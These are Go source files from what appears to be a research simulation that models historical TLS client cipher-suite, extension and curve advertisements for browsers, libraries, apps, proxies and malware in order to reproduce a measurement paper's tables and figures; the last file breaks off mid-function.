			Suites:     browserList(4, 8, 2, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

var msCryptoAPI = &Profile{
	Name:  "MS CryptoAPI",
	Class: ClassLibrary,
	Lag:   windowsLag,
	Releases: []VersionConfig{
		// Windows XP schannel: RC4 first, DES and export-grade still present.
		{"WinXP", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL2,
			Suites: concat(take(rc4Pool, 2)[0:2], []uint16{0x002F, 0x0035},
				take(tdesPool, 1), take(desPool, 1), take(exportPool, 2)),
			Extensions: extsMinimal, SSL3Fallback: true,
		}},
		// Windows 7 schannel (pre-TLS1.2-default).
		{"Win7", d(2012, time.January, 2), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 10, 1, 2),
			Extensions: extsMinimal, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Windows 7/8.1 with TLS 1.2 defaults (2014 servicing).
		{"Win7-TLS12", d(2014, time.April, 8), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(2, 10, 1, 2),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Windows 10 RTM: RC4 gone.
		{"Win10", d(2015, time.July, 29), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 8, 1, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		// Windows 10 1709.
		{"Win10-1709", d(2017, time.October, 17), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 6, 1, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

var javaJSSE = &Profile{
	Name:  "Java JSSE",
	Class: ClassLibrary,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		{"6", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 8), take(rc4Pool, 2), take(tdesPool, 1),
				take(desPool, 1), take(exportPool, 2)),
			Extensions: extsMinimal, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		{"7", d(2012, time.July, 28), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 10), take(rc4Pool, 2), take(tdesPool, 1),
				take(desPool, 1)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		// Java 8: TLS 1.2 by default, GCM suites.
		{"8", d(2014, time.March, 18), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites:     browserList(2, 10, 1, 2),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
		}},
		// Java 8u60: RC4 out of the default list.
		{"8u60", d(2015, time.August, 18), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(2, 10, 1, 0),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
		}},
	},
}

// --- Tools, apps, middleware and the long tail ---

var devTools = &Profile{
	Name:  "curl/git (OpenSSL)",
	Class: ClassDevTool,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		{"2012", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 12), take(rc4Pool, 2), take(tdesPool, 2),
				take(desPool, 1)),
			Extensions: extsMinimal, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		{"2015", d(2015, time.March, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 10, 1, 0),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
		}},
	},
}

var spotlight = &Profile{
	Name:  "Apple Spotlight",
	Class: ClassOSTool,
	Lag:   appleLag,
	Releases: []VersionConfig{
		{"10.10", d(2014, time.October, 16), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(0, 14, 3, 4),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		{"10.12", d(2016, time.September, 20), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 10, 2, 0),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

var thunderbird = &Profile{
	Name:  "Thunderbird",
	Class: ClassEmail,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		{"2012", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 24, 6, 5),
			Extensions: extsEra2012, Curves: curvesNSSOld, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		{"2015", d(2015, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 10, 1, 0),
			Extensions: extsEra2014, Curves: curvesNSSOld, PointFormats: pfUncompressed,
		}},
	},
}

var appleMail = &Profile{
	Name:  "Apple Mail",
	Class: ClassEmail,
	Lag:   appleLag,
	Releases: []VersionConfig{
		{"2013", d(2013, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     browserList(0, 20, 4, 4),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		{"2016", d(2016, time.March, 21), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(4, 12, 3, 0),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

var dropbox = &Profile{
	Name:  "Dropbox",
	Class: ClassCloudStorage,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		{"2012", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     concat(take(cbcAESPool, 10), take(rc4Pool, 2), take(tdesPool, 1)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		{"2016", d(2016, time.February, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 6, 0, 0),
			Extensions: extsEra2016, Curves: curvesModern, PointFormats: pfUncompressed,
		}},
	},
}

// avProxy models TLS-interception middleware (Avast, Blue Coat, Kaspersky
// web shields). These boxes kept RC4 and fat CBC lists long after browsers
// dropped them — a large slice of Figure 4's "fingerprints still supporting
// RC4" tail and of the §6.2 anonymous-suite advertisers.
var avProxy = &Profile{
	Name:  "AV/Proxy (Avast, Blue Coat)",
	Class: ClassAV,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"2013", d(2013, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 16), take(rc4Pool, 4), take(tdesPool, 3),
				take(anonPool, 2)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		{"2016", d(2016, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites: concat(take(aeadPool, 4), take(cbcAESPool, 12), take(rc4Pool, 4),
				take(tdesPool, 2)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

var mobileApps = &Profile{
	Name:  "Facebook app (bundled TLS)",
	Class: ClassMobileApp,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"2013", d(2013, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     concat(take(cbcAESPool, 10), take(rc4Pool, 3), take(tdesPool, 1)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
		{"2016", d(2016, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     browserList(6, 6, 0, 0),
			Extensions: extsEra2016, Curves: curvesModern, PointFormats: pfUncompressed,
		}},
	},
}

// lookout is the identity-theft-protection Android app the paper names as a
// NULL- and anonymous-suite advertiser (§6.1, §6.2).
var lookout = &Profile{
	Name:  "Lookout Personal",
	Class: ClassMobileApp,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"2014", d(2014, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 8), take(rc4Pool, 2),
				take(anonPool, 4), take(nullPool, 3)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
	},
}

// craftar is the other named NULL-cipher advertiser (§6.1).
var craftar = &Profile{
	Name:  "Craftar Image Recognition",
	Class: ClassMobileApp,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"2014", d(2014, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     concat(take(cbcAESPool, 6), take(nullPool, 2)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

// shodan models Internet-wide security scanners that advertise everything,
// anonymous suites included (§6.2).
var shodan = &Profile{
	Name:  "Shodan scanner",
	Class: ClassDevTool,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		{"2014", d(2014, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites: concat(take(aeadPool, 4), take(cbcAESPool, 14), take(rc4Pool, 4),
				take(tdesPool, 3), desPool, anonPool, take(nullPool, 3), take(exportPool, 4)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfAll,
		}},
	},
}

// gridFTP is the GRID data-transfer software responsible for 99.99% of the
// connections actually established with NULL ciphers (§6.1): TLS used for
// mutual authentication only.
var gridFTP = &Profile{
	Name:  "Globus GridFTP",
	Class: ClassLibrary,
	Lag:   adoption.LibraryLag,
	Releases: []VersionConfig{
		{"5", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     concat(take(nullPool, 2), take(cbcAESPool, 4), take(tdesPool, 1)),
			Extensions: extsMinimal, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
		{"6", d(2014, time.August, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     concat(take(nullPool, 2), take(aeadPool, 2), take(cbcAESPool, 4)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

// nagios is the monitoring-plugin traffic of §5.1/§5.5/§6.1: anonymous and
// NULL_WITH_NULL_NULL suites, anonymous export suites, and even SSLv2
// hellos, all terminating at university Nagios servers.
var nagios = &Profile{
	Name:  "Nagios check_tcp",
	Class: ClassOSTool,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"legacy", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL2,
			Suites: concat(take(anonPool, 6), []uint16{0x0000},
				take(cbcAESPool, 2)),
			Extensions:   extsMinimal,
			SSL3Fallback: true, SSLv2Compat: true,
		}},
	},
}

// interwise reproduces the §5.5 oddity: the client offers plain
// RC4_128_SHA, yet Interwise servers answer with EXP_RC4_40_MD5 — a
// spec-violating negotiation the Notary repeatedly logged.
var interwise = &Profile{
	Name:  "Interwise client",
	Class: ClassOSTool,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"legacy", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:       []uint16{0x0005, 0x0004, 0x000A},
			Extensions:   extsMinimal,
			SSL3Fallback: true,
		}},
	},
}

// zbot is banking malware with a statically linked, never-updated TLS stack.
var zbot = &Profile{
	Name:  "Zbot",
	Class: ClassMalware,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"static", d(2012, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(rc4Pool, 3), []uint16{0x002F, 0x0035},
				take(tdesPool, 1), take(desPool, 1)),
			Extensions:   extsMinimal,
			SSL3Fallback: true,
		}},
	},
}

// installMoney is pay-per-install PUP shipping an ancient OpenSSL.
var installMoney = &Profile{
	Name:  "InstallMoney",
	Class: ClassMalware,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"static", d(2013, time.March, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 10), take(rc4Pool, 3), take(tdesPool, 2),
				desPool, take(exportPool, 4)),
			Extensions:   extsMinimal,
			SSL3Fallback: true,
		}},
	},
}

// holaVPN: a mobile VPN app with its own TLS stack, slow to modernize.
var holaVPN = &Profile{
	Name:  "Hola VPN",
	Class: ClassMobileApp,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"2014", d(2014, time.March, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites:     concat(take(cbcAESPool, 8), take(rc4Pool, 2), take(tdesPool, 1)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
	},
}

// kaspersky: endpoint AV with its own TLS client, an anonymous-suite
// advertiser per §6.2.
var kaspersky = &Profile{
	Name:  "Kaspersky",
	Class: ClassAV,
	Lag:   adoption.DeviceLag,
	Releases: []VersionConfig{
		{"2014", d(2014, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS11, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 12), take(rc4Pool, 2), take(tdesPool, 2),
				take(anonPool, 3)),
			Extensions: extsEra2012, Curves: curvesClassic, PointFormats: pfUncompressed,
			SSL3Fallback: true,
		}},
	},
}

var libraryProfiles = []*Profile{
	openssl, androidSDK, appleST, msCryptoAPI, javaJSSE,
	devTools, spotlight, thunderbird, appleMail, dropbox,
	avProxy, mobileApps, lookout, craftar, shodan,
	gridFTP, nagios, interwise, zbot, installMoney, holaVPN, kaspersky,
}

// LibraryProfiles returns every non-browser profile (shared; do not mutate).
func LibraryProfiles() []*Profile { return libraryProfiles }
