package clientdb

import (
	"time"

	"tlsage/internal/adoption"
	"tlsage/internal/registry"
)

// Unlabeled profiles: the long tail of TLS software the study's fingerprint
// database could not attribute (Table 2 covers 69.23% of connections; these
// profiles model the remainder). They matter for every advertisement figure
// — in particular the unexplained mid-2015 spike of anonymous/NULL cipher
// advertisement (§6.2) originates here.

// unknownTools: generic OpenSSL-linked utilities and services following the
// library's configuration era with extra delay.
var unknownTools = &Profile{
	Name:      "unknown-tools",
	Class:     ClassLibrary,
	Unlabeled: true,
	Lag:       adoption.LibraryLag,
	Releases: []VersionConfig{
		{"old", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 13), take(rc4Pool, 2), take(tdesPool, 2),
				take(desPool, 1)),
			Extensions: extsMinimal, Curves: curvesClassic, PointFormats: pfAll,
			SSL3Fallback: true,
		}},
		{"tls12", d(2013, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionSSL3,
			Suites: concat(take(aeadPool, 4), take(cbcAESPool, 11), take(rc4Pool, 2),
				take(tdesPool, 2)),
			Extensions: extsOpenSSL101, Curves: curvesClassic, PointFormats: pfAll,
			HeartbeatMode: 1, SSL3Fallback: true,
		}},
		{"modern", d(2016, time.October, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     concat(take(aeadPool, 6), take(cbcAESPool, 8), take(tdesPool, 1)),
			Extensions: extsEra2016, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

// unknownEmbedded: firmware, printers, IoT — TLS 1.0 lists frozen for years,
// export and DES suites included (§7.2's smart light bulbs).
var unknownEmbedded = &Profile{
	Name:      "unknown-embedded",
	Class:     ClassLibrary,
	Unlabeled: true,
	Lag:       adoption.DeviceLag,
	Releases: []VersionConfig{
		{"fw1", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 8), take(rc4Pool, 3), take(tdesPool, 2),
				desPool, take(exportPool, 4)),
			Extensions:   extsMinimal,
			SSL3Fallback: true,
		}},
		{"fw2", d(2014, time.June, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 10), take(rc4Pool, 2), take(tdesPool, 2),
				take(desPool, 1)),
			Extensions:   extsMinimal,
			SSL3Fallback: true,
		}},
		{"fw3", d(2016, time.March, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites:     concat(take(aeadPool, 2), take(cbcAESPool, 8), take(tdesPool, 1)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

// unknownLegacyApp: the unidentifiable client software that advertises
// anonymous and NULL suites alongside regular ones (§6.1, §6.2: "we could
// not determine the vast majority of applications responsible"). Its traffic
// weight spikes in mid-2015 — the two-month anomaly in Figure 7.
var unknownLegacyApp = &Profile{
	Name:      "unknown-legacyapp",
	Class:     ClassLibrary,
	Unlabeled: true,
	Lag:       adoption.DeviceLag,
	Releases: []VersionConfig{
		{"v1", d(2012, time.January, 1), Config{
			LegacyVersion: registry.VersionTLS10, MinVersion: registry.VersionSSL3,
			Suites: concat(take(cbcAESPool, 6), take(rc4Pool, 2),
				take(anonPool, 5), take(nullPool, 3)),
			Extensions:   extsMinimal,
			SSL3Fallback: true,
		}},
		{"v2", d(2015, time.October, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites: concat(take(aeadPool, 2), take(cbcAESPool, 6),
				take(anonPool, 4), take(nullPool, 2)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

// unknownRandomizer: software emitting a different cipher order on every
// connection — the paper's hypothesis for the 42,188 fingerprints seen on a
// single day only (§4.1: "software that does not send its ciphersuites in a
// fixed order, due to a bug, perhaps"). The population layer shuffles its
// suites per connection.
var unknownRandomizer = &Profile{
	Name:      "unknown-randomizer",
	Class:     ClassLibrary,
	Unlabeled: true,
	Lag:       adoption.DeviceLag,
	Releases: []VersionConfig{
		{"v1", d(2014, time.October, 1), Config{
			LegacyVersion: registry.VersionTLS12, MinVersion: registry.VersionTLS10,
			Suites: concat(take(aeadPool, 4), take(cbcAESPool, 10), take(rc4Pool, 2),
				take(tdesPool, 2)),
			Extensions: extsEra2014, Curves: curvesClassic, PointFormats: pfUncompressed,
		}},
	},
}

var unknownProfiles = []*Profile{
	unknownTools, unknownEmbedded, unknownLegacyApp, unknownRandomizer,
}

// UnknownProfiles returns the unlabeled profiles (shared; do not mutate).
func UnknownProfiles() []*Profile { return unknownProfiles }

// RandomizerProfileName is the profile whose cipher order is shuffled per
// connection by the traffic generator.
const RandomizerProfileName = "unknown-randomizer"
