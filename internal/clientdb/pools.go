package clientdb

import "tlsage/internal/registry"

// Suite pools, each in modern-first preference order. Client cipher lists
// are assembled from prefixes of these pools so that the per-browser counts
// of Tables 3, 4 and 5 are met exactly while every list stays structurally
// realistic (AEAD first, AES-CBC next, RC4, then 3DES/DES at the bottom —
// the ordering Figure 5 measures).

// aeadPool: AEAD suites in the order modern clients prefer them.
var aeadPool = []uint16{
	0xC02B, // ECDHE-ECDSA-AES128-GCM
	0xC02F, // ECDHE-RSA-AES128-GCM
	0xC02C, // ECDHE-ECDSA-AES256-GCM
	0xC030, // ECDHE-RSA-AES256-GCM
	0xCCA9, // ECDHE-ECDSA-CHACHA20
	0xCCA8, // ECDHE-RSA-CHACHA20
	0x009E, // DHE-RSA-AES128-GCM
	0x009F, // DHE-RSA-AES256-GCM
	0x009C, // RSA-AES128-GCM
	0x009D, // RSA-AES256-GCM
}

// oldChaChaPool: the pre-RFC draft ChaCha20 code points Chrome shipped first.
var oldChaChaPool = []uint16{0xCC14, 0xCC13}

// cbcAESPool: CBC-mode suites that are not 3DES/DES, forward-secret first.
var cbcAESPool = []uint16{
	0xC023, // ECDHE-ECDSA-AES128-CBC-SHA256
	0xC027, // ECDHE-RSA-AES128-CBC-SHA256
	0xC009, // ECDHE-ECDSA-AES128-CBC-SHA
	0xC013, // ECDHE-RSA-AES128-CBC-SHA
	0xC024, // ECDHE-ECDSA-AES256-CBC-SHA384
	0xC028, // ECDHE-RSA-AES256-CBC-SHA384
	0xC00A, // ECDHE-ECDSA-AES256-CBC-SHA
	0xC014, // ECDHE-RSA-AES256-CBC-SHA
	0x003C, // RSA-AES128-CBC-SHA256
	0x002F, // RSA-AES128-CBC-SHA
	0x003D, // RSA-AES256-CBC-SHA256
	0x0035, // RSA-AES256-CBC-SHA
	0x0067, // DHE-RSA-AES128-CBC-SHA256
	0x0033, // DHE-RSA-AES128-CBC-SHA
	0x006B, // DHE-RSA-AES256-CBC-SHA256
	0x0039, // DHE-RSA-AES256-CBC-SHA
	0xC004, // ECDH-ECDSA-AES128-CBC-SHA
	0xC00E, // ECDH-RSA-AES128-CBC-SHA
	0xC005, // ECDH-ECDSA-AES256-CBC-SHA
	0xC00F, // ECDH-RSA-AES256-CBC-SHA
	0x0032, // DHE-DSS-AES128-CBC-SHA
	0x0038, // DHE-DSS-AES256-CBC-SHA
	0x0045, // DHE-RSA-CAMELLIA128-CBC-SHA
	0x0088, // DHE-RSA-CAMELLIA256-CBC-SHA
	0x0041, // RSA-CAMELLIA128-CBC-SHA
	0x0084, // RSA-CAMELLIA256-CBC-SHA
	0x0044, // DHE-DSS-CAMELLIA128-CBC-SHA
	0x0087, // DHE-DSS-CAMELLIA256-CBC-SHA
	0x009A, // DHE-RSA-SEED-CBC-SHA
	0x0096, // RSA-SEED-CBC-SHA
	0x0007, // RSA-IDEA-CBC-SHA
}

// rc4Pool: RC4 suites. The plain RSA-kex entries lead so that clients
// without a supported_groups extension still interoperate with RC4-first
// servers (the dominant post-BEAST pairing of Figure 2).
var rc4Pool = []uint16{
	0x0005, // RSA-RC4-SHA
	0x0004, // RSA-RC4-MD5
	0xC011, // ECDHE-RSA-RC4-SHA
	0xC007, // ECDHE-ECDSA-RC4-SHA
	0xC00C, // ECDH-RSA-RC4-SHA
	0xC002, // ECDH-ECDSA-RC4-SHA
	0x0066, // DHE-DSS-RC4-SHA
}

// tdesPool: Triple-DES CBC suites.
var tdesPool = []uint16{
	0x000A, // RSA-3DES
	0xC012, // ECDHE-RSA-3DES
	0xC008, // ECDHE-ECDSA-3DES
	0x0016, // DHE-RSA-3DES
	0x0013, // DHE-DSS-3DES
	0xC00D, // ECDH-RSA-3DES
	0xC003, // ECDH-ECDSA-3DES
	0x000D, // DH-DSS-3DES
}

// desPool: single-DES suites, advertised only by vintage libraries.
var desPool = []uint16{
	0x0009, // RSA-DES
	0x0015, // DHE-RSA-DES
	0x0012, // DHE-DSS-DES
}

// exportPool: export-grade suites (the §5.5 decline).
var exportPool = []uint16{
	0x0003, // RSA-EXPORT-RC4-40-MD5
	0x0008, // RSA-EXPORT-DES40
	0x0006, // RSA-EXPORT-RC2-40
	0x0014, // DHE-RSA-EXPORT-DES40
	0x0011, // DHE-DSS-EXPORT-DES40
	0x0060, // RSA-EXPORT1024-RC4-56
	0x0062, // RSA-EXPORT1024-DES
}

// anonPool: anonymous suites (§6.2).
var anonPool = []uint16{
	0x0018, // DH-anon-RC4-MD5
	0x001B, // DH-anon-3DES
	0x0034, // DH-anon-AES128-CBC
	0x003A, // DH-anon-AES256-CBC
	0xC018, // ECDH-anon-AES128-CBC
	0x0019, // DH-anon-EXPORT-DES40
}

// nullPool: NULL-encryption suites (§6.1).
var nullPool = []uint16{
	0x0002, // RSA-NULL-SHA
	0x0001, // RSA-NULL-MD5
	0x003B, // RSA-NULL-SHA256
	0xC010, // ECDHE-RSA-NULL-SHA
	0x0000, // NULL-WITH-NULL-NULL
}

// concat builds one preference list from pool prefixes.
func concat(parts ...[]uint16) []uint16 {
	n := 0
	for _, p := range parts {
		n += len(p)
	}
	out := make([]uint16, 0, n)
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

// take returns the first n entries of pool; n larger than the pool panics
// (static-table programming error).
func take(pool []uint16, n int) []uint16 {
	if n > len(pool) {
		panic("clientdb: pool exhausted")
	}
	return pool[:n]
}

// browserList assembles a browser cipher list with exact class counts:
// nAEAD AEAD suites, a total of nCBC CBC-mode suites of which n3DES are
// Triple-DES, and nRC4 RC4 suites. Order: AEAD, AES-CBC, RC4, 3DES.
func browserList(nAEAD, nCBC, n3DES, nRC4 int) []uint16 {
	if n3DES > nCBC {
		panic("clientdb: 3DES count exceeds CBC count")
	}
	return concat(
		take(aeadPool, nAEAD),
		take(cbcAESPool, nCBC-n3DES),
		take(rc4Pool, nRC4),
		take(tdesPool, n3DES),
	)
}

// Standard extension sets by era.
var (
	extsEra2012 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtRenegotiationInfo,
		registry.ExtSupportedGroups, registry.ExtECPointFormats,
		registry.ExtSessionTicket, registry.ExtNextProtoNego,
		registry.ExtStatusRequest,
	}
	extsEra2014 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtRenegotiationInfo,
		registry.ExtSupportedGroups, registry.ExtECPointFormats,
		registry.ExtSessionTicket, registry.ExtALPN,
		registry.ExtStatusRequest, registry.ExtSignatureAlgorithms,
	}
	extsEra2016 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtExtendedMasterSecret,
		registry.ExtRenegotiationInfo, registry.ExtSupportedGroups,
		registry.ExtECPointFormats, registry.ExtSessionTicket,
		registry.ExtALPN, registry.ExtStatusRequest,
		registry.ExtSignatureAlgorithms, registry.ExtSignedCertTimestamp,
	}
	extsEra2018 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtExtendedMasterSecret,
		registry.ExtRenegotiationInfo, registry.ExtSupportedGroups,
		registry.ExtECPointFormats, registry.ExtSessionTicket,
		registry.ExtALPN, registry.ExtStatusRequest,
		registry.ExtSignatureAlgorithms, registry.ExtSignedCertTimestamp,
		registry.ExtKeyShare, registry.ExtPSKKeyExchangeModes,
		registry.ExtSupportedVersions,
	}
	extsOpera2013 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtRenegotiationInfo,
		registry.ExtSupportedGroups, registry.ExtECPointFormats,
		registry.ExtSessionTicket, registry.ExtNextProtoNego,
	}
	extsOpera2016 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtExtendedMasterSecret,
		registry.ExtRenegotiationInfo, registry.ExtSupportedGroups,
		registry.ExtECPointFormats, registry.ExtSessionTicket,
		registry.ExtALPN, registry.ExtStatusRequest,
		registry.ExtSignatureAlgorithms, registry.ExtSignedCertTimestamp,
		registry.ExtChannelID,
	}
	extsOpenSSL101 = []registry.ExtensionID{
		registry.ExtServerName, registry.ExtRenegotiationInfo,
		registry.ExtSupportedGroups, registry.ExtECPointFormats,
		registry.ExtSessionTicket, registry.ExtSignatureAlgorithms,
		registry.ExtHeartbeat,
	}
	extsMinimal = []registry.ExtensionID{
		registry.ExtRenegotiationInfo,
	}
)

// Curve sets by era.
var (
	curvesClassic = []registry.CurveID{
		registry.CurveSecp256r1, registry.CurveSecp384r1, registry.CurveSecp521r1,
	}
	curvesNSSOld = []registry.CurveID{
		registry.CurveSecp256r1, registry.CurveSecp384r1, registry.CurveSecp521r1,
		registry.CurveSect571r1,
	}
	curvesModern = []registry.CurveID{
		registry.CurveX25519, registry.CurveSecp256r1, registry.CurveSecp384r1,
	}
	pfUncompressed = []registry.ECPointFormat{registry.PointFormatUncompressed}
	pfAll          = []registry.ECPointFormat{
		registry.PointFormatUncompressed,
		registry.PointFormatANSIX962CompressedPrime,
		registry.PointFormatANSIX962CompressedChar2,
	}
)
