package clientdb

import (
	"fmt"
	"strings"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// TableRow is one change row of Tables 3, 4 or 5: a browser release that
// altered the count of some suite class.
type TableRow struct {
	Browser string
	Version string
	Date    timeline.Date
	Before  int
	After   int
	// Note carries qualitative states ("fallback only", "removed
	// completely") for Table 4.
	Note string
}

// String renders the row the way the paper's tables do.
func (r TableRow) String() string {
	change := fmt.Sprintf("%d → %d", r.Before, r.After)
	if r.Note != "" {
		change += " (" + r.Note + ")"
	}
	return fmt.Sprintf("%-8s %-6s %s  %s", r.Browser, r.Version, r.Date, change)
}

// suiteCountRows walks browser release histories and emits one row per
// release that changed the count of suites matching pred. RC4 fallback-only
// transitions are annotated when trackFallback is set (Table 4 semantics).
func suiteCountRows(pred func(registry.Suite) bool, trackFallback bool) []TableRow {
	var rows []TableRow
	for _, p := range BrowserProfiles() {
		prev := -1
		prevFallback := false
		for i, rel := range p.Releases {
			n := rel.Config.CountWhere(pred)
			fb := trackFallback && rel.Config.RC4FallbackOnly
			if i == 0 {
				prev, prevFallback = n, fb
				continue
			}
